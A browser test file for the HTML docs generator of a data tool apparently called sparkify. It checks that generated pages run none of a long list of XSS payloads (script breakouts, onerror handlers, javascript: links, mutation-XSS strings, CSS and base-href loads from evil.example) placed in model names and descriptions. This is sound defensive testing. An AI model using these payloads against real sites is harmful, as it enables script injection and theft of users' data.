import test, { type ExecutionContext } from 'ava';
import { type CliProject, cliProject } from '../helpers/cli-project.ts';
import { because, closeBrowser, fileAddress, hasBrowser, openPage } from './browser.ts';

const withBrowser = hasBrowser ? test.serial : test.skip;
test.after.always(closeBrowser);

const attack = `globalThis.hacked=1;alert(1)`;
/** Each of them runs where a text is taken for HTML, or ends what it stands in. */
const attacks = [
  `</script><script>${attack}</script>`,
  `<img src=x onerror="${attack}">`,
  `<svg onload="${attack}">`,
  `<a href="javascript:${attack}">a</a>`,
  `[b](javascript:${attack})`,
  `<javascript:${attack}>`,
  `![c](x" onerror="${attack})`,
  `<iframe srcdoc="<script>${attack}</script>"></iframe>`,
  `<style>@import url(https://evil.example/x.css);*{display:none}</style>`,
  `<base href="https://evil.example/"><form action="https://evil.example/"><button id=main>x`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${attack}&gt;">`,
  `![d](https://evil.example/pixel.png)`,
  `<!--<script>`,
  `\u2028');${attack};('`,
  `\\');${attack};//`,
  `\`</code><script>${attack}</script>\``,
];
const text = attacks.join('\n\n');
const oneLine = attacks.join(' ').replaceAll('\u2028', ' ');
const name = `"><img src=x onerror=${attack}>`;

function hostileProject(t: ExecutionContext): CliProject {
  const yaml = {
    models: [
      {
        name: 'victims',
        description: text,
        config: { tags: [name], meta: { __proto__x: name, owner: text, constructor: name } },
        columns: [
          {
            name,
            description: text,
            data_tests: [
              'not_null',
              { accepted_values: { name: 'bad_<img>', arguments: { values: ['x'] } } },
            ],
          },
          { name: '__proto__', description: oneLine },
        ],
      },
    ],
    exposures: [
      {
        name: 'board',
        label: name,
        type: 'dashboard',
        description: text,
        url: `javascript:${attack}`,
        owner: { name: text, email: `${name}@example.com` },
        depends_on: [`ref('victims')`],
      },
    ],
  };
  const value = name.replaceAll("'", "''");
  const column = `"${name.replaceAll('"', '""')}"`;
  return cliProject(t, {
    'sparkify.config.ts': `import { defineConfig, duckdb } from 'sparkify';
export default defineConfig({ name: 'hostile', targets: { dev: duckdb({ lake: 'target/lake' }) } });
`,
    // JSON is YAML.
    'models/victims.yml': JSON.stringify(yaml),
    'models/victims.sql': `{{ config(materialized='external', partition_by='part') }}
-- ${oneLine.replaceAll(/[{}]/g, '')}
select '${value}' as ${column}, 1 as "__proto__", 'a<b' as part
union all select null, 2, 'c</script>'
`,
  });
}

withBrowser(`nothing that a project says or holds can run or load anything${because}`, async t => {
  const project = hostileProject(t);
  const built = await project.sparkify('build');
  t.regex(built.output, /not_null/);
  const generated = await project.sparkify('docs', 'generate');
  t.is(generated.exitCode, 0, generated.output);
  const page = await openPage(t);
  const index = project.path('target/docs/index.html');
  const id = 'model.hostile.victims';
  const places = [
    '#/',
    `#/?node=${id}`,
    `#/node/${id}`,
    ...['tests', 'data', 'code', 'files', 'readers'].map(tab => `#/node/${id}?tab=${tab}`),
    '#/node/exposure.hostile.board',
    '#/runs',
    '#/schema',
    `#/lineage/${id}/${encodeURIComponent(name)}`,
    `#/node/${encodeURIComponent(text)}`,
    `#/${encodeURIComponent(name)}`,
    `#/?select=${encodeURIComponent(text)}`,
    `#/?select=${encodeURIComponent(`tag:${name}`)}`,
    '#/node/__proto__',
    '#/__proto__/constructor',
    '#/constructor',
  ];
  for (const place of places) {
    await page.goto('about:blank');
    await page.goto(fileAddress(index, place));
    await page.locator('main h1').first().waitFor({ state: 'attached' });
    await page.waitForTimeout(100);
    t.is(await page.evaluate('typeof globalThis.hacked'), 'undefined', place);
    t.is(
      await page.locator('main :is(script, iframe, img, form, style, base, object, embed)').count(),
      0,
      place,
    );
    const links = await page
      .locator('main a')
      .evaluateAll(all => all.map(each => each.getAttribute('href') ?? ''));
    t.deepEqual(
      links.filter(link => !/^($|#|https?:|mailto:)/.test(link)),
      [],
      place,
    );
    t.true(await page.locator('.sidebar').isVisible(), place);
  }
  await page.goto(fileAddress(index, `#/node/${id}`));
  await page.getByText('__proto__').first().waitFor();
  t.true((await page.locator('.columns').innerText()).includes(name), 'a column is called as it is called');
  await page.keyboard.press('/');
  await page.keyboard.type('<img');
  await page.getByRole('option').first().waitFor();
  await page.waitForTimeout(100);
  t.is(await page.evaluate('typeof globalThis.hacked'), 'undefined');
});

withBrowser(`what somebody slips into the page is not run${because}`, async t => {
  const project = hostileProject(t);
  await project.sparkify('docs', 'generate');
  const page = await openPage(t, {
    tolerated: /Content.Security.Policy|'Trusted(HTML|Script|ScriptURL)'|evil\.example/i,
  });
  page.on('requestfinished', request => t.notRegex(request.url(), /evil/));
  await page.goto(fileAddress(project.path('target/docs/index.html')));
  await page.locator('main h1').first().waitFor({ state: 'attached' });
  const tries = [
    `document.body.innerHTML += '<img src=x onerror="globalThis.hacked=1">'`,
    `{ const s = document.createElement('script'); s.text = 'globalThis.hacked=1'; document.head.append(s); }`,
    `{ const s = document.createElement('script'); s.src = 'data:text/javascript,globalThis.hacked=1'; document.head.append(s); }`,
    `document.body.setAttribute('onclick', 'globalThis.hacked=1'); document.body.click()`,
    `{ const i = document.createElement('img'); i.src = 'https://evil.example/x.png'; document.body.append(i); }`,
  ];
  for (const text of tries) await page.evaluate(text).catch(() => undefined);
  await page.waitForTimeout(300);
  t.is(await page.evaluate('typeof globalThis.hacked'), 'undefined');
});
